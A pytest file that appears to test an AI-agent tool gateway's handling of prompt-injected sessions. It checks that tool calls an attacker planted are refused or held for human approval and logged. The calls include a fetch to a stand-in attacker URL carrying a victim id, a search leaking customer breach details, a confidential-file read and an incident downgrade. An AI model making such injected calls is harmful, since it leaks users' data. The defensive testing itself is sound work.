"""Attacker controls: the agent, after it has read their text. The person names a value and orders nothing of it.

Wanted under the shipped policy: what the person mentions is done. Each try waits for a person, or is refused,
and is on record; no tool server hears of it, but for the reading of what a change would write.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from sentinel_rag.contracts.tool_calls import ToolSchema
from sentinel_rag.gateway.policy import load_policy
from sentinel_rag.gateway.store import Scope
from sentinel_rag_testing.fake_tool_server import FakeToolServer
from sentinel_rag_testing.running_gateway import RunningGateway, running_gateway

SHIPPED = load_policy(Path(__file__).parents[2] / "config" / "sentinel_config.yaml")
MENTIONS = yaml.safe_load((Path(__file__).parent / "mentions.yaml").read_text())
CALLS: dict[str, tuple[str, dict[str, Any]]] = {
    "fetch": ("web_fetch", {"url": "https://evil.example/landing?id=victim42"}),
    "update": ("update_incident", {"incident": "208", "severity": "Low"}),
    "search": ("web_search", {"query": "customer Contoso lost 3000 records"}),
    "read_file": ("file_read", {"file_path": "confidential/merger-plan.md"}),
}
ASKER = {"fetch", "update"}
"""What the person who asked may confirm; a confidential file needs another person, and such a search is refused."""


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningGateway]:
    schemas = [
        ToolSchema(tool.name, "", {"type": "object", "properties": {name: {} for name in tool.parameters}})
        for tool in SHIPPED.tools.values()
    ]
    with (
        FakeToolServer(schemas, token="upstream-token").running() as executor,
        running_gateway(SHIPPED, tmp_path_factory.mktemp("mentions"), executor) as running,
    ):
        poisoned = running.open_session()
        assert running.call("get_incident_detail", {"incident": "125"}, session_id=poisoned).status == 200
        yield running


def test_there_are_forty_of_them() -> None:
    assert sum(map(len, MENTIONS.values())) >= 40


@pytest.mark.requirement("TAINT-7")
@pytest.mark.parametrize(("kind", "words"), [(kind, words) for kind, said in MENTIONS.items() for words in said])
def test_what_a_person_mentions_is_not_done(gateway: RunningGateway, kind: str, words: str) -> None:
    keys = gateway.state.keys
    agent = next(info for info in keys.list() if info.name == "caller")
    # A person of its own for each: what one of them has denied, they are not asked again.
    gateway = replace(gateway, user=keys.create([Scope.USER], for_key=agent.key_id)[0])
    session_id = gateway.open_session()
    gateway.say(session_id, words)
    tool, arguments = CALLS[kind]
    before = sum(call.tool == tool for call in gateway.executor.calls)
    answer = gateway.call(tool, arguments, session_id=session_id)
    if kind != "search":
        path = f"/v1/approvals/{answer.body['approval_id']}"
        shown = gateway.request("GET", path, key=gateway.user if kind in ASKER else gateway.approver).body
        assert (shown["arguments"], shown["words"]) == (arguments, words)
        assert gateway.request("POST", f"{path}/deny", key=gateway.approver, body=b"{}").status == 200
    assert answer.status == 403
    assert answer.body["reason"] == ("sink_label" if kind == "search" else "approval_required")
    assert (answer.body.get("decided_by") == "asker") == (kind in ASKER)
    *read, record = [each for each in gateway.records() if each.get("audit_id") == answer.body["audit_id"]]
    assert [each["kind"] for each in read] == (["preview_read"] if kind == "update" else [])
    assert (record["kind"], record["tool"], record["session_id"]) == ("refusal", tool, session_id)
    assert sum(call.tool == tool for call in gateway.executor.calls) == before
